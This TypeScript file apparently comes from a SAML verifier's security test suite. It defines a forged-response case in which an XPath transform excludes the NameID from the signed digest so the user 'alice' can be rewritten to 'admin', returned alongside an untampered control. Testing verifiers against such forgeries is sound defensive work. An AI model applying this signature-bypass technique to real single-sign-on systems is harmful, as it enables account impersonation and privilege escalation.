import type { Attack } from '../../support/attack.ts'
import { ids } from '../../support/dsig.ts'
import { swap } from '../../support/tamper.ts'

export const attack: Attack = {
  misdeed: 'an XPath transform stands between the two usual ones and leaves the names out of what is digested',
  code: 'signature_layout',
  forge: ({ parts, assertion, response }) => {
    const p = parts()
    const digested = swap(assertion({ ...p, sign: 'none' }), /<saml:NameID .*<\/saml:NameID>/s, '')
    const transforms = `${transform(ids.enveloped)}${xpath}${transform(ids.exclusive)}`
    const evil = response({ ...p, signature: { digested, transforms } })
    return { evil: swap(evil, '>alice<', '>admin<'), control: response(p) }
  },
}

const transform = (algorithm: string) => `<ds:Transform Algorithm="${algorithm}"></ds:Transform>`
const xpath =
  '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116">' +
  "<ds:XPath>not(ancestor-or-self::*[local-name()='NameID'])</ds:XPath></ds:Transform>"
